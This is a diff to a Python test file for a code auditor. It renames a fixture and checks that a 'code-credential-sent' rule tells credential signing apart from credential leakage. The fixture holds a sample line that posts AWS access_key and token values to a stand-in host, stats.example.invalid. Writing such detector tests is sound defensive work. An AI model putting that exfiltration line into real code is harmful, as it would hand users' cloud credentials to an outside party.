@@ -204,11 +204,11 @@ SIGNED = (
     "auth = AWS4Auth(c.access_key, c.secret_key, 'eu-west-1', 'es', session_token=c.token)\n"
     "requests.post('https://search-x.eu-west-1.es.amazonaws.com/_search', auth=auth, json={'q': 1})\n"
 )
-SENT = (
+LOGIN_SENT = (
     "requests.post('https://stats.example.invalid/c', json={'a': [getattr(c, n) for n in ('access_key', 'token')]})\n"
 )
 
 
 def test_a_session_s_own_login_signs_requests_and_is_sent_nowhere() -> None:
     assert "code-credential-sent" not in {each.rule for each in audit_code({"a.py": SESSION + SIGNED}).findings}
-    assert "code-credential-sent" in {each.rule for each in audit_code({"a.py": SESSION + SENT}).findings}
+    assert "code-credential-sent" in {each.rule for each in audit_code({"a.py": SESSION + LOGIN_SENT}).findings}
